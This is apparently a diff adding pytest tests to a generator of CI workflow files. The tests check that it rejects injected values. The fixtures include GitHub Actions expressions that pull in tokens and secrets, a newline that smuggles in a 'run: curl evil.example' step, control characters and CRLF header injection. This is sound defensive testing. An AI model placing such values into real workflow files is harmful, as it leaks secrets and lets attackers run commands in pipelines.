@@ -2,13 +2,17 @@
 
 import json
 import re
+from dataclasses import replace
+from typing import Any
 
+import pytest
 import yaml
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 import generate
 import stacks
+from stacks import Component
 from tests.unit.generate.proposals import PLACEMENT
 
 HOSTILE = st.sampled_from(
@@ -109,3 +113,42 @@ def test_variables_with_unusual_names_are_ignored(name: str, default: str) -> No
     }
     for component in stacks.read(sorted(files), files, "x").components:
         assert all(re.fullmatch(r"[A-Z][A-Z0-9_]+", setting.name) for setting in component.settings)
+
+
+@pytest.mark.parametrize(
+    ("field", "text"),
+    [
+        ("default_branch", "main${{ github.token }}"),
+        ("default_branch", "main\nrun: curl evil.example"),
+        ("default_branch", "a branch"),
+        ("default_branch", ""),
+        ("owner", "${{ secrets.TOKEN }}"),
+        ("repository", "a\u202eb"),
+        ("team", "x\x00"),
+        ("namespace", "${{ github.actor }}"),
+        ("registry_host", "registry.example/${{ x }}"),
+        ("cluster_url", "https://cluster.example/\r\nX: y"),
+        ("cluster_ca", "-----BEGIN CERTIFICATE-----\n${{ secrets.TOKEN }}\n"),
+        ("address", "https://{application}.${{ x }}"),
+    ],
+)
+def test_no_value_of_the_placement_brings_an_expression_into_a_file(field: str, text: str) -> None:
+    changed: dict[str, Any] = {field: text}
+    with pytest.raises(generate.Unsafe, match="“"):
+        generate.files([], replace(PLACEMENT, **changed))
+
+
+@pytest.mark.parametrize("field", ["name", "root", "version", "framework", "container_file", "health_path", "output"])
+def test_no_value_of_a_component_brings_an_expression_into_a_file(field: str) -> None:
+    changed: dict[str, Any] = {field: "${{ github.token }}"}
+    component = replace(Component(name="web", root="", family="python"), **changed)
+    with pytest.raises(generate.Unsafe):
+        generate.files([component], PLACEMENT)
+
+
+@pytest.mark.parametrize("field", ["install", "build", "test", "start", "manifests", "needs"])
+def test_no_list_of_a_component_brings_an_expression_into_a_file(field: str) -> None:
+    changed: dict[str, Any] = {field: ("x", "${{ github.token }}")}
+    component = replace(Component(name="web", root="", family="python"), **changed)
+    with pytest.raises(generate.Unsafe):
+        generate.files([component], PLACEMENT)
